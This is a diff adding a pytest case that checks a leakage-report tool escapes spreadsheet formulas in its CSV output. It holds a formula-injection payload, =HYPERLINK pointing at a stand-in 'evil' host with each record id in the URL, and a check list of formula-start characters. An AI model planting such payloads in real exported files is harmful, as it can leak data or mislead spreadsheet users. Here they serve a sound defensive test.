@@ -601,6 +601,25 @@ def leak_newline_id(lab):
     return run
 
 
+@case("leakage: ids that start a spreadsheet formula")
+def leak_formula_ids(lab):
+    data = lab.copy("leak_formula")
+    f = data / "dev_seen.jsonl"
+    rows = [json.loads(line) for line in f.read_text().splitlines()]
+    for r in rows:
+        r["id"] = f"=HYPERLINK(\"http://evil/{r['id']}\")"
+    f.write_text("".join(json.dumps(r) + "\n" for r in rows))
+    run, out = _leakage_report(lab, "leak_formula_out", data)
+    assert run.exit_code == 0 and "Traceback" not in run.output, run.output
+    cells = [c for line in (out / "pairs.csv").read_text().splitlines() for c in line.split(",")]
+    assert any(c.startswith("'=HYPERLINK") for c in cells)
+    assert not [c for c in cells if c.lstrip('"').startswith(("=", "+", "-", "@"))], "a formula cell in pairs.csv"
+    exact = {p["id_b"] for p in json.loads((out / "report.json").read_text())["pairs"]} | set(
+        (out / "clean_ids" / "dev_seen.txt").read_text().splitlines())
+    assert {r["id"] for r in rows} <= exact  # report.json and clean_ids keep the exact ids
+    return Run(run.command, run.exit_code, "pairs.csv: formula cells start with ' (report.json keeps exact ids)\n")
+
+
 # ---------------------------------------------------------------- pytest and script entry points
 @pytest.fixture(scope="module")
 def lab(tmp_path_factory):
